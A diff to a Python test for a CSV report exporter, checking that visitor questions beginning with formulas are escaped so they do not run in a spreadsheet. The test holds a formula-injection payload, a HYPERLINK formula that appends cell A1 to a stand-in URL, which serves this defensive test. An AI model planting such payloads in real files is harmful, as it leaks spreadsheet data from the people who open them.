@@ -159,7 +159,7 @@ def test_a_visitors_formula_is_text_in_the_csv():
     """A question is a visitor's text: "=HYPERLINK(…)" must not run when the operator opens the CSV in a spreadsheet."""
     hostile = '=HYPERLINK("http://example.com/?"&A1,"点这里")'
     group = Unanswered(hostile, 2, "2026-12-02T02:00:00Z", "tour_guide", {"no_source": 2}, [hostile, "-1+1"])
-    report = Report(combined({date(2026, 12, 2): DayUsage.empty()}), [group], DocumentUse({"@home": 1}, {}, []))
+    report = Report(combined({date(2026, 12, 2): DayUsage.empty()}), [group], DocumentUse({"@home": 1}, {}, [], {}))
     row = next(csv.DictReader(io.StringIO(as_csv(report, "unanswered"))))
     assert row["question"] == "'" + hostile and row["wordings"] == f"'{hostile} | -1+1" and row["asked"] == "2"
     assert as_csv(report, "documents").splitlines()[1] == "'@home,1"
